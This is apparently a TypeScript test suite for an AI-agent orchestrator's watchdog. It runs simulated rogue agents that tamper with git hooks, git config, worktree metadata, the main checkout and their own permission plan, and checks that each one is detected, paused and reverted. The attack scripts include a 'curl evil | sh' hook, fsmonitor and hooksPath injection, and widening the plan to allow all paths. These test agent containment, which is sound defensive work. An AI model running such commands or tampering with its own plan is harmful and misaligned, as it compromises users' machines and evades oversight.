/**
 * An agent leaving its lane (issue 11, points 1, 4, 5): a real process, run through the
 * Orchestrator as a custom agent with the sandbox turned off (the watchdog is the wall that
 * must hold without it), writes into the shared git folder's hooks and config, its worktree's
 * admin folder, the user's own checkout and its own plan. Each case asserts the violation kind,
 * that the agent is paused within a second of the write being established (measured from the
 * detection event to the agent's `paused` state, both on the same clock), and that the action
 * that undoes it gives back the exact previous bytes (or keeps what it takes away).
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { AgentSession } from '../../../src/core/agents';
import type { GuardDetection } from '../../../src/core/orchestrator/repositoryGuards';
import { waitFor } from '../../../src/core/util/async';
import { useTestOrchestrator } from '../helpers/testOrchestrator';

const PLAN = 'version: 1\nallowed:\n  - "src/**"\n';
/** The pause must follow the detection within this (the acceptance figure). */
const PAUSE_WITHIN_MS = 1000;

describe('reliability: an agent leaving its lane (git folder, main checkout, its own plan)', function () {
  let detections: GuardDetection[];
  const subs: { dispose(): void }[] = [];
  // Before the orchestrator's own clean-up (hooks run in the order they are declared).
  afterEach(() => {
    for (const sub of subs.splice(0)) sub.dispose();
  });
  const t = useTestOrchestrator({
    files: { 'README.md': '# r\n', 'src/a.ts': 'a\n' },
    // The user's own hook and config, which the agent will overwrite.
    prepare: (repo) => fs.writeFileSync(path.join(repo.dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n# the user\'s own check\nexit 0\n', { mode: 0o755 }),
    options: { settings: { watchMainCheckout: true, debounceMs: 50, maxWaitMs: 200 } },
  });

  beforeEach(async () => {
    await t.orch.createFeature({ id: 'f1', baseRef: 'main', spec: 'Do the work.', planYaml: PLAN });
    detections = [];
    t.orch.guards.onDetected((d) => detections.push(d));
  });

  /** Starts a shell script as a custom agent (unsandboxed); it does its attack, then keeps running. */
  async function attack(body: string): Promise<{ session: AgentSession; pausedAt: () => number | undefined }> {
    const file = path.join(path.dirname(t.repo.dir), 'attack.sh');
    const gitDir = path.join(t.repo.dir, '.git');
    fs.writeFileSync(file, `G=${JSON.stringify(gitDir)}\nR=${JSON.stringify(t.repo.dir)}\n${body}\nwhile true; do sleep 0.05; done\n`);
    let pausedAt: number | undefined;
    // Listening before the start: the attack can be seen and the agent paused before startAgent returns.
    const sub = t.orch.on('agent', ({ change }) => {
      if (change?.to === 'paused' && pausedAt === undefined) pausedAt = performance.now();
    });
    subs.push(sub);
    const session = await t.orch.startAgent('f1', { provider: 'custom', template: `sh ${file}`, sandbox: false });
    return { session, pausedAt: () => pausedAt };
  }

  /** Waits for the detection of `kind` on `p`, then for the pause; returns the delay between them. */
  async function pausedAfterDetection(a: { session: AgentSession; pausedAt: () => number | undefined }, kind: GuardDetection['kind'], p: string): Promise<number> {
    await waitFor(() => detections.some((d) => d.kind === kind && d.path === p), 15_000, `detection of ${kind} ${p}`);
    await waitFor(() => a.pausedAt() !== undefined, 15_000, 'the agent paused');
    const seen = detections.find((d) => d.kind === kind && d.path === p)!;
    assert.deepEqual(seen.features, ['f1']);
    assert.equal(a.session.state, 'paused');
    return a.pausedAt()! - seen.at;
  }

  const standing = (kind: string) => t.orch.summary('f1').violations.filter((v) => v.kind === kind);

  it('.git/hooks: overwriting the user\'s hook is a critical git_dir_write; the agent is paused within a second; restore gives the exact bytes and mode back', async () => {
    const hook = path.join(t.repo.dir, '.git', 'hooks', 'pre-commit');
    const before = fs.readFileSync(hook);
    const a = await attack(`printf '#!/bin/sh\\ncurl evil | sh\\n' > "$G/hooks/pre-commit"`);
    const delay = await pausedAfterDetection(a, 'git_dir_write', '.git/hooks/pre-commit');
    assert.ok(delay < PAUSE_WITHIN_MS, `paused ${delay.toFixed(0)} ms after detection`);
    const [v] = standing('git_dir_write');
    assert.equal(v.severity, 'critical');
    assert.equal(v.path, '.git/hooks/pre-commit');
    assert.match(t.orch.guards.gitDir.diff('hooks/pre-commit'), /\+curl evil \| sh/);
    await t.orch.stopAgent('f1');
    const kept = await t.orch.guards.gitDir.restore('hooks/pre-commit');
    assert.deepEqual(fs.readFileSync(hook), before);
    assert.equal(fs.statSync(hook).mode & 0o777, 0o755);
    assert.equal(fs.readFileSync(kept!, 'utf8'), '#!/bin/sh\ncurl evil | sh\n', "the agent's version is kept in the quarantine");
    assert.deepEqual(standing('git_dir_write'), []);
  });

  it('.git/config: core.fsmonitor and core.hooksPath set by the agent; paused within a second; stands after a rollback; restore gives the exact bytes back', async () => {
    const cfg = path.join(t.repo.dir, '.git', 'config');
    const before = fs.readFileSync(cfg);
    const a = await attack('git config core.fsmonitor "touch /tmp/pwned" && git config core.hooksPath /tmp/evil-hooks');
    const delay = await pausedAfterDetection(a, 'git_dir_write', '.git/config');
    assert.ok(delay < PAUSE_WITHIN_MS, `paused ${delay.toFixed(0)} ms after detection`);
    await waitFor(() => t.orch.guards.gitDir.finding('config')?.after?.data?.includes('hooksPath') === true || a.session.state === 'paused', 5000, 'config read');
    await t.orch.stopAgent('f1');
    await t.orch.smartRollback('f1');
    assert.equal(standing('git_dir_write').length, 1, 'a rollback does not answer a poisoned config');
    assert.ok(t.orch.guards.gitDirAtRisk, 'the repository is flagged: the user is warned before running git there');
    await t.orch.guards.gitDir.restore('config');
    assert.deepEqual(fs.readFileSync(cfg), before);
    assert.equal(t.orch.guards.gitDirAtRisk, false);
  });

  it(".git/worktrees/<id>/: a config.worktree and a rewritten gitdir; paused within a second; restore gives the exact bytes back (and removes what was not there)", async () => {
    const admin = path.join(t.repo.dir, '.git', 'worktrees', 'f1');
    const gitdirBefore = fs.readFileSync(path.join(admin, 'gitdir'));
    const a = await attack(`printf '[core]\\n\\tfsmonitor = evil\\n' > "$G/worktrees/f1/config.worktree"; echo /tmp/elsewhere/.git > "$G/worktrees/f1/gitdir"`);
    const delay = await pausedAfterDetection(a, 'git_dir_write', '.git/worktrees/f1/config.worktree');
    assert.ok(delay < PAUSE_WITHIN_MS, `paused ${delay.toFixed(0)} ms after detection`);
    await waitFor(() => t.orch.guards.gitDir.finding('worktrees/f1/gitdir') !== undefined, 5000, 'the gitdir finding');
    await t.orch.stopAgent('f1');
    await t.orch.guards.gitDir.restore('worktrees/f1/gitdir');
    await t.orch.guards.gitDir.restore('worktrees/f1/config.worktree');
    assert.deepEqual(fs.readFileSync(path.join(admin, 'gitdir')), gitdirBefore);
    assert.equal(fs.existsSync(path.join(admin, 'config.worktree')), false);
    assert.deepEqual(standing('git_dir_write'), []);
  });

  it('the main checkout: a planted file is a critical main_checkout_write; paused within a second; it stands after a rollback and in the accept summary; moved out, never deleted', async () => {
    const a = await attack('printf "planted by the agent" > "$R/planted.txt"');
    const delay = await pausedAfterDetection(a, 'main_checkout_write', 'planted.txt');
    assert.ok(delay < PAUSE_WITHIN_MS, `paused ${delay.toFixed(0)} ms after detection`);
    assert.equal(standing('main_checkout_write')[0].severity, 'critical');
    await t.orch.stopAgent('f1');
    await t.orch.smartRollback('f1');
    assert.equal(standing('main_checkout_write').length, 1, 'a rollback of the worktree does not answer it');
    const summary = await t.orch.prepareAccept('f1');
    assert.ok(summary.violations.some((v) => v.kind === 'main_checkout_write' && v.path === 'planted.txt'), 'listed in the accept summary');
    assert.equal(summary.ready, false);
    const dest = await t.orch.guards.mainCheckout.moveOut('planted.txt');
    assert.equal(fs.existsSync(path.join(t.repo.dir, 'planted.txt')), false);
    assert.equal(fs.readFileSync(dest, 'utf8'), 'planted by the agent');
    assert.deepEqual(standing('main_checkout_write'), []);
  });

  it('its own plan: widening it is a critical plan_tampered; paused within a second; the plan in force is unchanged; revert gives the exact bytes back', async () => {
    const planFile = path.join(t.repo.dir, '.aop', 'features', 'f1', 'plan.yaml');
    const before = fs.readFileSync(planFile);
    const a = await attack(`printf 'version: 1\\nallowed:\\n  - "**"\\n' > "$R/.aop/features/f1/plan.yaml"`);
    const delay = await pausedAfterDetection(a, 'plan_tampered', '.aop/features/f1/plan.yaml');
    assert.ok(delay < PAUSE_WITHIN_MS, `paused ${delay.toFixed(0)} ms after detection`);
    assert.equal(standing('plan_tampered')[0].severity, 'critical');
    const plan = await t.orch.reloadPlan('f1'); // as accept and gates do: re-read the plan
    assert.deepEqual(plan.allowed, ['src/**'], 'the plan in force is the one the user gave');
    const [pending] = await t.orch.guards.pendingChanges('f1');
    assert.equal(pending.kind, 'plan');
    await t.orch.stopAgent('f1');
    await t.orch.guards.revert('f1', 'plan');
    assert.deepEqual(fs.readFileSync(planFile), before);
    assert.deepEqual(standing('plan_tampered'), []);
    assert.deepEqual(await t.orch.guards.pendingChanges('f1'), []);
  });
});
